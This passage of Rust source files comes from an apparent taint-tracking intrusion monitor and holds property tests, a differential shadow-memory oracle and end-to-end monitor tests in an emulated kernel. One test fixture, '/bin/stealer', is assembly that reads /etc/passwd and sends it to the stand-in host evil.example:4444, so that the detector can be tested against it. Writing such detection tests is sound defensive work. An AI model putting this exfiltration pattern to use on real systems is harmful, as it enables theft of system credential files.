        fn macro_smoke(a in 0u32..10, pair in (0usize..4, any::<bool>())) {
            prop_assert!(a < 10);
            prop_assert!(pair.0 < 4);
        }
    }
}
