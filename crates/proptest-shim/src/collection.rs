//! Collection strategies (`prop::collection::vec`).

use std::ops::{Range, RangeInclusive};

use crate::{Strategy, TestRng};

/// Inclusive bounds on a generated collection's length.
#[derive(Clone, Copy, Debug)]
pub struct SizeRange {
    lo: usize,
    hi: usize,
}

impl From<Range<usize>> for SizeRange {
    fn from(r: Range<usize>) -> SizeRange {
        assert!(r.start < r.end, "empty size range");
        SizeRange { lo: r.start, hi: r.end - 1 }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(r: RangeInclusive<usize>) -> SizeRange {
        assert!(r.start() <= r.end(), "empty size range");
        SizeRange { lo: *r.start(), hi: *r.end() }
    }
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> SizeRange {
        SizeRange { lo: n, hi: n }
    }
}

/// Strategy for `Vec<S::Value>` with a length drawn from a [`SizeRange`].
#[derive(Clone, Debug)]
pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let span = (self.size.hi - self.size.lo + 1) as u64;
        let len = self.size.lo + rng.below(span) as usize;
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}

/// Generates vectors of values from `element` (proptest's
/// `prop::collection::vec`).
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy { element, size: size.into() }
}
