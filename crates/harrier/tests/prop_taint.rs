//! Property-based tests for taint invariants: tag-set algebra and the
//! "no invented sources" guarantee of shadow propagation.

use proptest::prelude::*;

use harrier::{DataSource, Shadow, SourceId, SourceTable, TagSet};
use hth_vm::{Loc, Reg, TaintOp};

fn table_with(n: usize) -> (SourceTable, Vec<SourceId>) {
    let mut table = SourceTable::new();
    let ids = (0..n).map(|i| table.intern(DataSource::file(format!("/f{i}")))).collect();
    (table, ids)
}

fn subset_strategy(n: usize) -> impl Strategy<Value = Vec<usize>> {
    prop::collection::vec(0..n, 0..=n)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Union is commutative, associative, idempotent, with ∅ identity.
    #[test]
    fn union_is_a_semilattice(
        a_idx in subset_strategy(6),
        b_idx in subset_strategy(6),
        c_idx in subset_strategy(6),
    ) {
        let (_, ids) = table_with(6);
        let pick = |idxs: &[usize]| TagSet::from_ids(idxs.iter().map(|i| ids[*i]));
        let (a, b, c) = (pick(&a_idx), pick(&b_idx), pick(&c_idx));
        prop_assert_eq!(a.union(&b), b.union(&a));
        prop_assert_eq!(a.union(&b).union(&c), a.union(&b.union(&c)));
        prop_assert_eq!(a.union(&a), a.clone());
        prop_assert_eq!(a.union(&TagSet::empty()), a.clone());
        // Union contains exactly the members of both sides.
        let u = a.union(&b);
        for id in ids {
            prop_assert_eq!(u.contains(id), a.contains(id) || b.contains(id));
        }
    }

    /// Shadow propagation never invents sources: after any sequence of
    /// register-to-register moves and combines, every tag on every
    /// register is one of the initially planted tags (or the BINARY /
    /// HARDWARE ids the ops explicitly introduce).
    #[test]
    fn propagation_never_invents_sources(
        plant in prop::collection::vec((0usize..8, 0usize..4), 1..4),
        ops in prop::collection::vec((0usize..8, 0usize..8, any::<bool>(), any::<bool>()), 0..24),
    ) {
        let mut table = SourceTable::new();
        let planted: Vec<SourceId> =
            (0..4).map(|i| table.intern(DataSource::file(format!("/p{i}")))).collect();
        let binary = table.intern(DataSource::binary("/bin/app"));
        let hardware = table.intern(DataSource::Hardware);
        let mut shadow = Shadow::new();
        for (reg_idx, src_idx) in &plant {
            shadow.set_reg(Reg::ALL[*reg_idx], TagSet::single(planted[*src_idx]));
        }
        let mut binary_used = false;
        let mut hardware_used = false;
        for (dst, src, imm, hw) in &ops {
            binary_used |= imm;
            hardware_used |= hw;
            shadow.apply(
                &TaintOp {
                    dst: Loc::Reg(Reg::ALL[*dst]),
                    srcs: [Some(Loc::Reg(Reg::ALL[*src])), Some(Loc::Reg(Reg::ALL[*dst]))],
                    imm: *imm,
                    hardware: *hw,
                },
                binary,
                hardware,
            );
        }
        let mut legal: Vec<SourceId> = planted.clone();
        if binary_used {
            legal.push(binary);
        }
        if hardware_used {
            legal.push(hardware);
        }
        for reg in Reg::ALL {
            for id in shadow.reg(reg).clone().iter() {
                prop_assert!(legal.contains(&id), "invented source {:?}", table.get(id));
            }
        }
    }

    /// Memory range tagging: the union over a range equals the union of
    /// its per-byte tags, for arbitrary overlapping writes.
    #[test]
    fn range_union_agrees_with_bytes(
        writes in prop::collection::vec((0u32..64, 1u32..16, 0usize..4), 0..12),
    ) {
        let (_, ids) = table_with(4);
        let mut shadow = Shadow::new();
        for (offset, len, src) in &writes {
            shadow.set_range(0x1000 + offset, *len, &TagSet::single(ids[*src]));
        }
        let whole = shadow.range(0x1000, 96);
        let mut manual = TagSet::empty();
        for i in 0..96 {
            manual = manual.union(&shadow.byte(0x1000 + i));
        }
        prop_assert_eq!(whole, manual);
    }

    /// Clearing a destination with no sources erases taint regardless of
    /// prior state (the xor-zeroing idiom).
    #[test]
    fn clear_always_clears(reg_idx in 0usize..8, pre in subset_strategy(4)) {
        let (_, ids) = table_with(4);
        let mut shadow = Shadow::new();
        let reg = Reg::ALL[reg_idx];
        shadow.set_reg(reg, TagSet::from_ids(pre.iter().map(|i| ids[*i])));
        shadow.apply(
            &TaintOp { dst: Loc::Reg(reg), srcs: [None, None], imm: false, hardware: false },
            ids[0],
            ids[1],
        );
        prop_assert!(shadow.reg(reg).is_empty());
    }
}
