//! Property-based tests for taint invariants: tag-set algebra (both the
//! standalone `TagSet` values and the hash-consed `TagStore`), and the
//! "no invented sources" guarantee of shadow propagation.

use proptest::prelude::*;

use harrier::{DataSource, Shadow, SourceId, SourceTable, TagRef, TagSet, TagStore};
use hth_vm::{Loc, Reg, TaintOp};

fn table_with(n: usize) -> (SourceTable, Vec<SourceId>) {
    let mut table = SourceTable::new();
    let ids = (0..n).map(|i| table.intern(DataSource::file(format!("/f{i}")))).collect();
    (table, ids)
}

fn subset_strategy(n: usize) -> impl Strategy<Value = Vec<usize>> {
    prop::collection::vec(0..n, 0..=n)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Union is commutative, associative, idempotent, with ∅ identity.
    #[test]
    fn union_is_a_semilattice(
        a_idx in subset_strategy(6),
        b_idx in subset_strategy(6),
        c_idx in subset_strategy(6),
    ) {
        let (_, ids) = table_with(6);
        let pick = |idxs: &[usize]| TagSet::from_ids(idxs.iter().map(|i| ids[*i]));
        let (a, b, c) = (pick(&a_idx), pick(&b_idx), pick(&c_idx));
        prop_assert_eq!(a.union(&b), b.union(&a));
        prop_assert_eq!(a.union(&b).union(&c), a.union(&b.union(&c)));
        prop_assert_eq!(a.union(&a), a.clone());
        prop_assert_eq!(a.union(&TagSet::empty()), a.clone());
        // Union contains exactly the members of both sides.
        let u = a.union(&b);
        for id in ids {
            prop_assert_eq!(u.contains(id), a.contains(id) || b.contains(id));
        }
    }

    /// The same laws hold for interned refs — and because interning is
    /// canonical, they hold as O(1) handle equality, not just set
    /// equality.
    #[test]
    fn store_union_is_a_semilattice(
        a_idx in subset_strategy(6),
        b_idx in subset_strategy(6),
        c_idx in subset_strategy(6),
    ) {
        let (_, ids) = table_with(6);
        let mut store = TagStore::new();
        let pick = |s: &mut TagStore, idxs: &[usize]| s.from_ids(idxs.iter().map(|i| ids[*i]));
        let a = pick(&mut store, &a_idx);
        let b = pick(&mut store, &b_idx);
        let c = pick(&mut store, &c_idx);
        prop_assert_eq!(store.union(a, b), store.union(b, a));
        let ab_c = { let ab = store.union(a, b); store.union(ab, c) };
        let a_bc = { let bc = store.union(b, c); store.union(a, bc) };
        prop_assert_eq!(ab_c, a_bc);
        prop_assert_eq!(store.union(a, a), a);
        prop_assert_eq!(store.union(a, TagRef::EMPTY), a);
        prop_assert_eq!(store.union(TagRef::EMPTY, a), a);
        let u = store.union(a, b);
        for id in ids {
            prop_assert_eq!(store.contains(u, id),
                store.contains(a, id) || store.contains(b, id));
        }
    }

    /// Interning is canonical: any reordering/duplication of the same
    /// ids produces the *same* handle, and it round-trips to the same
    /// `TagSet` the value type would build.
    #[test]
    fn interning_is_canonical(
        idxs in subset_strategy(8),
        shuffle_keys in prop::collection::vec(any::<u32>(), 8),
    ) {
        let (_, ids) = table_with(8);
        let picked: Vec<SourceId> = idxs.iter().map(|i| ids[*i]).collect();
        // A deterministic shuffle driven by generated sort keys.
        let mut keyed: Vec<(u32, SourceId)> = picked
            .iter()
            .enumerate()
            .map(|(i, &id)| (shuffle_keys[i % shuffle_keys.len()].wrapping_add(i as u32), id))
            .collect();
        keyed.sort_unstable();
        let shuffled: Vec<SourceId> = keyed.into_iter().map(|(_, id)| id).collect();

        let mut store = TagStore::new();
        let direct = store.from_ids(picked.iter().copied());
        let reordered = store.from_ids(shuffled.iter().copied());
        let doubled = store.from_ids(picked.iter().chain(picked.iter()).copied());
        prop_assert_eq!(direct, reordered);
        prop_assert_eq!(direct, doubled);
        let round_trip = store.to_set(direct);
        prop_assert_eq!(round_trip.clone(), TagSet::from_ids(picked.iter().copied()));
        prop_assert_eq!(store.intern_set(&round_trip), direct);
    }

    /// The union memo cache is invisible: replaying any union sequence
    /// against a cold store yields the same id slices as a warmed store
    /// that answers from cache, and both match the `TagSet` reference
    /// semantics.
    #[test]
    fn memo_cache_never_changes_results(
        seeds in prop::collection::vec(subset_strategy(6), 1..5),
        pairs in prop::collection::vec((0usize..8, 0usize..8), 0..24),
    ) {
        let (_, ids) = table_with(6);
        let mut warm = TagStore::new();
        let mut cold = TagStore::new();
        let mut warm_refs: Vec<TagRef> = seeds
            .iter()
            .map(|s| warm.from_ids(s.iter().map(|i| ids[*i])))
            .collect();
        let mut cold_refs: Vec<TagRef> = seeds
            .iter()
            .map(|s| cold.from_ids(s.iter().map(|i| ids[*i])))
            .collect();
        let mut model: Vec<TagSet> =
            seeds.iter().map(|s| TagSet::from_ids(s.iter().map(|i| ids[*i]))).collect();
        // Warm the memo: run the whole sequence once, discarding results.
        for (i, j) in &pairs {
            let (a, b) = (warm_refs[i % warm_refs.len()], warm_refs[j % warm_refs.len()]);
            let r = warm.union(a, b);
            warm_refs.push(r);
        }
        warm_refs.truncate(seeds.len());
        let hits_before = warm.stats().memo_hits;
        // Replay against both stores and the reference model.
        for (i, j) in &pairs {
            let n = warm_refs.len();
            let w = {
                let (a, b) = (warm_refs[i % n], warm_refs[j % n]);
                warm.union(a, b)
            };
            let c = {
                let (a, b) = (cold_refs[i % n], cold_refs[j % n]);
                cold.union(a, b)
            };
            let m = model[i % n].union(&model[j % n]);
            prop_assert_eq!(warm.ids(w), cold.ids(c), "warm and cold stores disagree");
            let m_ids: Vec<SourceId> = m.iter().collect();
            prop_assert_eq!(warm.ids(w), m_ids.as_slice(), "store disagrees with TagSet");
            warm_refs.push(w);
            cold_refs.push(c);
            model.push(m);
        }
        if !pairs.is_empty() {
            prop_assert!(warm.stats().memo_hits > hits_before || warm.stats().memo_misses == 0,
                "warmed store should answer repeated unions from cache");
        }
    }

    /// Shadow propagation never invents sources: after any sequence of
    /// register-to-register moves and combines, every tag on every
    /// register is one of the initially planted tags (or the BINARY /
    /// HARDWARE ids the ops explicitly introduce).
    #[test]
    fn propagation_never_invents_sources(
        plant in prop::collection::vec((0usize..8, 0usize..4), 1..4),
        ops in prop::collection::vec((0usize..8, 0usize..8, any::<bool>(), any::<bool>()), 0..24),
    ) {
        let mut table = SourceTable::new();
        let planted: Vec<SourceId> =
            (0..4).map(|i| table.intern(DataSource::file(format!("/p{i}")))).collect();
        let binary = table.intern(DataSource::binary("/bin/app"));
        let hardware = table.intern(DataSource::Hardware);
        let mut store = TagStore::new();
        let binary_tag = store.single(binary);
        let hardware_tag = store.single(hardware);
        let mut shadow = Shadow::new();
        for (reg_idx, src_idx) in &plant {
            let tag = store.single(planted[*src_idx]);
            shadow.set_reg(Reg::ALL[*reg_idx], tag);
        }
        let mut binary_used = false;
        let mut hardware_used = false;
        for (dst, src, imm, hw) in &ops {
            binary_used |= imm;
            hardware_used |= hw;
            shadow.apply(
                &TaintOp {
                    dst: Loc::Reg(Reg::ALL[*dst]),
                    srcs: [Some(Loc::Reg(Reg::ALL[*src])), Some(Loc::Reg(Reg::ALL[*dst]))],
                    imm: *imm,
                    hardware: *hw,
                },
                binary_tag,
                hardware_tag,
                &mut store,
            );
        }
        let mut legal: Vec<SourceId> = planted.clone();
        if binary_used {
            legal.push(binary);
        }
        if hardware_used {
            legal.push(hardware);
        }
        for reg in Reg::ALL {
            for &id in store.ids(shadow.reg(reg)) {
                prop_assert!(legal.contains(&id), "invented source {:?}", table.get(id));
            }
        }
    }

    /// Memory range tagging: the union over a range equals the union of
    /// its per-byte tags, for arbitrary overlapping writes.
    #[test]
    fn range_union_agrees_with_bytes(
        writes in prop::collection::vec((0u32..64, 1u32..16, 0usize..4), 0..12),
    ) {
        let (_, ids) = table_with(4);
        let mut store = TagStore::new();
        let mut shadow = Shadow::new();
        for (offset, len, src) in &writes {
            let tag = store.single(ids[*src]);
            shadow.set_range(0x1000 + offset, *len, tag);
        }
        let whole = shadow.range(0x1000, 96, &mut store);
        let mut manual = TagRef::EMPTY;
        for i in 0..96 {
            let b = shadow.byte(0x1000 + i);
            manual = store.union(manual, b);
        }
        prop_assert_eq!(whole, manual);
        // The read-only diagnostic view agrees too.
        let whole_ids: Vec<SourceId> = store.ids(whole).to_vec();
        prop_assert_eq!(shadow.range_ids(0x1000, 96, &store), whole_ids);
    }

    /// Clearing a destination with no sources erases taint regardless of
    /// prior state (the xor-zeroing idiom).
    #[test]
    fn clear_always_clears(reg_idx in 0usize..8, pre in subset_strategy(4)) {
        let (_, ids) = table_with(4);
        let mut store = TagStore::new();
        let mut shadow = Shadow::new();
        let reg = Reg::ALL[reg_idx];
        let pre_tag = store.from_ids(pre.iter().map(|i| ids[*i]));
        shadow.set_reg(reg, pre_tag);
        let (b, h) = (store.single(ids[0]), store.single(ids[1]));
        shadow.apply(
            &TaintOp { dst: Loc::Reg(reg), srcs: [None, None], imm: false, hardware: false },
            b,
            h,
            &mut store,
        );
        prop_assert!(shadow.reg(reg).is_empty());
    }
}
