//! Differential oracle: the compressed `Shadow` must be observationally
//! identical to the per-byte `NaiveShadow` it replaced.
//!
//! Proptest generates arbitrary interleavings of byte writes, range
//! fills, clears, register writes and dataflow micro-ops; both
//! implementations consume the same sequence, and after every operation
//! the *resolved* tag sets (sorted `SourceId` slices) of all registers
//! and the touched range must agree. A final sweep compares every byte
//! of the exercised arena.

use proptest::prelude::*;

use harrier::{DataSource, NaiveShadow, Shadow, SourceId, SourceTable, TagRef, TagSet, TagStore};
use hth_vm::{Loc, Reg, TaintOp};

/// Arena the operations address: spans three page boundaries so page
/// fast paths (uniform fills, boundary-straddling ranges) get exercised.
const BASE: u32 = 0x1000 - 64;
const ARENA: u32 = 3 * 4096 + 128;

#[derive(Clone, Debug)]
enum DiffOp {
    SetByte {
        off: u32,
        src: usize,
    },
    SetRange {
        off: u32,
        len: u32,
        src: Option<usize>,
    },
    /// A union of several sources stamped on a range — how the monitor
    /// tags a buffer read from a pipe or a mapped file (gen2 surface).
    SetRangeMulti {
        off: u32,
        len: u32,
        srcs: Vec<usize>,
    },
    SetReg {
        reg: usize,
        srcs: Vec<usize>,
    },
    /// `write(pipefd)`: the range's accumulated tags are unioned into a
    /// kernel-global pipe tag, exactly like `Harrier::pipe_tags` —
    /// laundering data through fd plumbing must not shed tags.
    PipeWrite {
        off: u32,
        len: u32,
    },
    /// `read(pipefd)`: the accumulated pipe tag stamps the buffer.
    PipeRead {
        off: u32,
        len: u32,
    },
    Apply {
        dst: LocSpec,
        src1: Option<LocSpec>,
        src2: Option<LocSpec>,
        imm: bool,
        hw: bool,
    },
}

#[derive(Clone, Debug)]
enum LocSpec {
    Reg(usize),
    Mem { off: u32, len: u32 },
}

impl LocSpec {
    fn loc(&self) -> Loc {
        match self {
            LocSpec::Reg(i) => Loc::Reg(Reg::ALL[*i]),
            LocSpec::Mem { off, len } => Loc::Mem(BASE + off, *len),
        }
    }
}

fn loc_strategy() -> impl Strategy<Value = LocSpec> {
    prop_oneof![
        (0usize..8).prop_map(LocSpec::Reg),
        (0u32..ARENA - 8, 1u32..=8).prop_map(|(off, len)| LocSpec::Mem { off, len }),
    ]
}

fn op_strategy() -> impl Strategy<Value = DiffOp> {
    prop_oneof![
        (0u32..ARENA, 0usize..6).prop_map(|(off, src)| DiffOp::SetByte { off, src }),
        (0u32..ARENA - 160, 1u32..160, prop_oneof![Just(None), (0usize..6).prop_map(Some)])
            .prop_map(|(off, len, src)| DiffOp::SetRange { off, len, src }),
        (0u32..ARENA - 160, 1u32..160, prop::collection::vec(0usize..6, 0..=3))
            .prop_map(|(off, len, srcs)| DiffOp::SetRangeMulti { off, len, srcs }),
        (0usize..8, prop::collection::vec(0usize..6, 0..=3))
            .prop_map(|(reg, srcs)| DiffOp::SetReg { reg, srcs }),
        (0u32..ARENA - 160, 1u32..160).prop_map(|(off, len)| DiffOp::PipeWrite { off, len }),
        (0u32..ARENA - 160, 1u32..160).prop_map(|(off, len)| DiffOp::PipeRead { off, len }),
        (
            loc_strategy(),
            prop_oneof![Just(None), loc_strategy().prop_map(Some)],
            prop_oneof![Just(None), loc_strategy().prop_map(Some)],
            any::<bool>(),
            any::<bool>(),
        )
            .prop_map(|(dst, src1, src2, imm, hw)| DiffOp::Apply {
                dst,
                src1,
                src2,
                imm,
                hw
            }),
    ]
}

struct Harness {
    store: TagStore,
    srcs: Vec<SourceId>,
    binary: SourceId,
    hardware: SourceId,
    naive: NaiveShadow,
    fast: Shadow,
    /// The modeled pipe's accumulated tag, one per implementation.
    pipe_naive: TagSet,
    pipe_fast: TagRef,
}

impl Harness {
    fn new() -> Harness {
        let mut table = SourceTable::new();
        let srcs = (0..6).map(|i| table.intern(DataSource::file(format!("/d{i}")))).collect();
        let binary = table.intern(DataSource::binary("/bin/app"));
        let hardware = table.intern(DataSource::Hardware);
        Harness {
            store: TagStore::new(),
            srcs,
            binary,
            hardware,
            naive: NaiveShadow::new(),
            fast: Shadow::new(),
            pipe_naive: TagSet::empty(),
            pipe_fast: TagRef::EMPTY,
        }
    }

    fn resolve(&mut self, r: TagRef) -> Vec<SourceId> {
        self.store.ids(r).to_vec()
    }

    fn step(&mut self, op: &DiffOp) {
        match op {
            DiffOp::SetByte { off, src } => {
                let id = self.srcs[*src];
                self.naive.set_byte(BASE + off, TagSet::single(id));
                let tag = self.store.single(id);
                self.fast.set_byte(BASE + off, tag);
            }
            DiffOp::SetRange { off, len, src } => {
                let (set, tag) = match src {
                    Some(s) => {
                        let id = self.srcs[*s];
                        (TagSet::single(id), self.store.single(id))
                    }
                    None => (TagSet::empty(), TagRef::EMPTY),
                };
                self.naive.set_range(BASE + off, *len, &set);
                self.fast.set_range(BASE + off, *len, tag);
            }
            DiffOp::SetRangeMulti { off, len, srcs } => {
                let ids: Vec<SourceId> = srcs.iter().map(|s| self.srcs[*s]).collect();
                self.naive.set_range(BASE + off, *len, &TagSet::from_ids(ids.iter().copied()));
                let tag = self.store.from_ids(ids.iter().copied());
                self.fast.set_range(BASE + off, *len, tag);
            }
            DiffOp::PipeWrite { off, len } => {
                let written_naive = self.naive.range(BASE + off, *len);
                self.pipe_naive =
                    TagSet::from_ids(self.pipe_naive.iter().chain(written_naive.iter()));
                let written_fast = self.fast.range(BASE + off, *len, &mut self.store);
                self.pipe_fast = self.store.union(self.pipe_fast, written_fast);
            }
            DiffOp::PipeRead { off, len } => {
                let set = self.pipe_naive.clone();
                self.naive.set_range(BASE + off, *len, &set);
                self.fast.set_range(BASE + off, *len, self.pipe_fast);
            }
            DiffOp::SetReg { reg, srcs } => {
                let ids: Vec<SourceId> = srcs.iter().map(|s| self.srcs[*s]).collect();
                self.naive.set_reg(Reg::ALL[*reg], TagSet::from_ids(ids.iter().copied()));
                let tag = self.store.from_ids(ids.iter().copied());
                self.fast.set_reg(Reg::ALL[*reg], tag);
            }
            DiffOp::Apply { dst, src1, src2, imm, hw } => {
                let taint_op = TaintOp {
                    dst: dst.loc(),
                    srcs: [src1.as_ref().map(LocSpec::loc), src2.as_ref().map(LocSpec::loc)],
                    imm: *imm,
                    hardware: *hw,
                };
                self.naive.apply(&taint_op, self.binary, self.hardware);
                let b = self.store.single(self.binary);
                let h = self.store.single(self.hardware);
                self.fast.apply(&taint_op, b, h, &mut self.store);
            }
        }
    }

    /// The memory span an op touches (for targeted post-op checks).
    fn touched(op: &DiffOp) -> Option<(u32, u32)> {
        match op {
            DiffOp::SetByte { off, .. } => Some((BASE + off, 1)),
            DiffOp::SetRange { off, len, .. } => Some((BASE + off, *len)),
            DiffOp::SetRangeMulti { off, len, .. } => Some((BASE + off, *len)),
            DiffOp::PipeWrite { .. } => None,
            DiffOp::PipeRead { off, len } => Some((BASE + off, *len)),
            DiffOp::SetReg { .. } => None,
            DiffOp::Apply { dst, .. } => match dst {
                LocSpec::Mem { off, len } => Some((BASE + off, *len)),
                LocSpec::Reg(_) => None,
            },
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Lock-step equivalence of naive and compressed shadows.
    #[test]
    fn compressed_shadow_matches_naive_oracle(
        ops in prop::collection::vec(op_strategy(), 1..48),
    ) {
        let mut h = Harness::new();
        for op in &ops {
            h.step(op);
            // Registers must agree after every single operation.
            for reg in Reg::ALL {
                let naive: Vec<SourceId> = h.naive.reg(reg).iter().collect();
                let fast_ref = h.fast.reg(reg);
                prop_assert_eq!(&naive, &h.resolve(fast_ref), "reg {:?} after {:?}", reg, op);
            }
            // The modeled pipe's accumulated tag must agree — the
            // laundering path keeps taint across fd plumbing.
            let pipe_naive: Vec<SourceId> = h.pipe_naive.iter().collect();
            let pipe_fast = h.pipe_fast;
            prop_assert_eq!(&pipe_naive, &h.resolve(pipe_fast), "pipe tag after {:?}", op);
            // The touched range must resolve identically, including a
            // widened window to catch off-by-one page-boundary bugs.
            if let Some((addr, len)) = Harness::touched(op) {
                let lo = addr.saturating_sub(2).max(BASE);
                let wide = (len + 4).min(BASE + ARENA - lo);
                let naive: Vec<SourceId> = h.naive.range(lo, wide).iter().collect();
                let fast_ref = h.fast.range(lo, wide, &mut h.store);
                prop_assert_eq!(&naive, &h.resolve(fast_ref), "range after {:?}", op);
            }
        }
        // Final sweep: every byte of the arena agrees.
        for addr in BASE..BASE + ARENA {
            let naive: Vec<SourceId> = h.naive.byte(addr).iter().collect();
            let fast_ref = h.fast.byte(addr);
            prop_assert_eq!(&naive, &h.resolve(fast_ref), "byte {addr:#x} diverged");
        }
        // And the whole-arena union agrees (exercises the page-skipping
        // fast path against the per-byte fold).
        let naive: Vec<SourceId> = h.naive.range(BASE, ARENA).iter().collect();
        let fast_ref = h.fast.range(BASE, ARENA, &mut h.store);
        prop_assert_eq!(&naive, &h.resolve(fast_ref), "whole-arena union diverged");
    }
}
