//! End-to-end monitor tests: run assembly programs under the kernel with
//! Harrier attached and check the emitted Secpert events — taint origins,
//! data sources, BB attribution and the gethostbyname short circuit.

use emukernel::{Endpoint, Kernel, Peer, Process, SyscallEffect};
use harrier::{Harrier, HarrierConfig, Origin, ResourceType, SecpertEvent};
use hth_vm::StepEvent;

/// Drives one process to completion under the monitor, returning all
/// events (no Secpert in the loop — that is hth-core's job).
fn run_monitored(
    kernel: &mut Kernel,
    harrier: &mut Harrier,
    proc: &mut Process,
) -> Vec<SecpertEvent> {
    harrier.attach(proc);
    let mut events = Vec::new();
    for _ in 0..500_000 {
        if !proc.runnable() {
            break;
        }
        let step = {
            let mut hooks = harrier.hooks(proc.pid);
            proc.core.step(&mut hooks)
        };
        match step {
            Ok(StepEvent::Continue) => {}
            Ok(StepEvent::Halted) => break,
            Ok(StepEvent::Interrupt(0x80)) => {
                let record = kernel.syscall(proc);
                if matches!(record.effect, SyscallEffect::ForkRequested) {
                    // Single-process harness: create the child only to
                    // count it, then drop it.
                    let child = kernel.fork(proc);
                    proc.core.cpu.set(hth_vm::Reg::Eax, child.pid);
                }
                events.extend(harrier.on_syscall(proc, &record, kernel));
            }
            Ok(StepEvent::Interrupt(_)) => break,
            Err(e) => panic!("vm fault: {e}"),
        }
        kernel.note_instructions(1);
    }
    events
}

fn origin_types(origin: &Origin) -> Vec<ResourceType> {
    origin.sources.iter().map(|s| s.kind).collect()
}

#[test]
fn hardcoded_execve_origin_is_binary() {
    let mut kernel = Kernel::new();
    kernel.register_binary(
        "/bin/dropper",
        r#"
        _start:
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/ls"
        "#,
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let SecpertEvent::ResourceAccess { syscall, resource, origin, .. } = &events[0] else {
        panic!("expected resource access");
    };
    assert_eq!(*syscall, "SYS_execve");
    assert_eq!(resource.name, "/bin/ls");
    assert_eq!(origin_types(origin), vec![ResourceType::Binary]);
    assert_eq!(origin.sources[0].name, "/bin/dropper");
}

#[test]
fn user_supplied_execve_origin_is_user_input() {
    let mut kernel = Kernel::new();
    // argv[1] is the program to execute: `mov ebx, [esp+8]` loads its
    // pointer from the initial stack.
    kernel.register_binary(
        "/bin/runner",
        r"
        _start:
            mov ebx, [esp+8]
            mov eax, 11
            int 0x80
            hlt
        ",
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/runner", &["/bin/runner", "/bin/date"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let SecpertEvent::ResourceAccess { resource, origin, .. } = &events[0] else {
        panic!("expected resource access");
    };
    assert_eq!(resource.name, "/bin/date");
    assert_eq!(origin_types(origin), vec![ResourceType::UserInput]);
}

#[test]
fn file_to_socket_flow_carries_file_source_and_hardcoded_origins() {
    let mut kernel = Kernel::new();
    kernel.vfs.install("/etc/passwd", emukernel::FileNode::regular(b"root:x:0".to_vec()));
    kernel.net.add_host("evil.example", 0x0808_0808);
    kernel.net.add_peer(Endpoint { ip: 0x0808_0808, port: 4444 }, Peer::default());
    kernel.register_binary(
        "/bin/stealer",
        r#"
        .equ SCRATCH, 0x09000000
        _start:
            ; open("/etc/passwd", O_RDONLY)
            mov eax, 5
            mov ebx, path
            mov ecx, 0
            int 0x80
            mov edi, eax
            ; read(fd, SCRATCH, 8)
            mov eax, 3
            mov ebx, edi
            mov ecx, SCRATCH
            mov edx, 8
            int 0x80
            ; socket + connect + send
            mov eax, 102
            mov ebx, 1
            mov ecx, sockargs
            int 0x80
            mov esi, eax
            mov [connargs], esi
            mov eax, 102
            mov ebx, 3
            mov ecx, connargs
            int 0x80
            mov [sendargs], esi
            mov eax, 102
            mov ebx, 9
            mov ecx, sendargs
            int 0x80
            hlt
        .data
        path:     .asciz "/etc/passwd"
        sockargs: .long 2, 1, 0
        addr:     .word 2
        port:     .word 4444
        ip:       .long 0x08080808
        connargs: .long 0, addr, 8
        sendargs: .long 0, 0x09000000, 8, 0
        "#,
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/stealer", &["/bin/stealer"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);

    // open event: hardcoded path.
    let SecpertEvent::ResourceAccess { syscall: "SYS_open", origin, .. } = &events[0] else {
        panic!("expected open, got {:?}", events[0]);
    };
    assert!(origin.has(ResourceType::Binary));

    // connect event: hardcoded sockaddr.
    let connect = events.iter().find(|e| e.syscall() == "SYS_connect").expect("connect event");
    let SecpertEvent::ResourceAccess { origin, resource, .. } = connect else { panic!() };
    assert!(origin.has(ResourceType::Binary), "sockaddr literal lives in .data");
    assert_eq!(resource.name, "evil.example:4444 (AF_INET)");

    // send event: data from FILE /etc/passwd into hardcoded socket.
    let send = events.iter().find(|e| e.syscall() == "SYS_send").expect("send event");
    let SecpertEvent::DataTransfer { data_sources, target, target_origin, .. } = send else {
        panic!()
    };
    assert!(data_sources.iter().any(|s| s.kind == ResourceType::File && s.name == "/etc/passwd"));
    assert_eq!(target.kind, ResourceType::Socket);
    assert!(target_origin.has(ResourceType::Binary));
}

#[test]
fn gethostbyname_short_circuit_preserves_binary_origin() {
    let mut kernel = Kernel::new();
    kernel.net.add_host("pop.mail.yahoo.com", 0x0505_0505);
    kernel.net.add_peer(Endpoint { ip: 0x0505_0505, port: 110 }, Peer::default());
    kernel.register_lib(
        "libc.so",
        r"
        .global gethostbyname
        gethostbyname:
            mov eax, 200
            int 0x80
            ret
        ",
    );
    kernel.register_binary(
        "/bin/mailer",
        r#"
        .extern gethostbyname
        _start:
            mov ebx, host
            call gethostbyname
            ; Build sockaddr with the resolved ip: the ip's taint must be
            ; the taint of the *name* (BINARY), not lost.
            mov [ip], eax
            mov eax, 102
            mov ebx, 1
            mov ecx, sockargs
            int 0x80
            mov esi, eax
            mov [connargs], esi
            mov eax, 102
            mov ebx, 3
            mov ecx, connargs
            int 0x80
            hlt
        .data
        host:     .asciz "pop.mail.yahoo.com"
        sockargs: .long 2, 1, 0
        addr:     .word 2
        port:     .word 110
        ip:       .long 0
        connargs: .long 0, addr, 8
        "#,
        &["libc.so"],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/mailer", &["/bin/mailer"], &[]).unwrap();
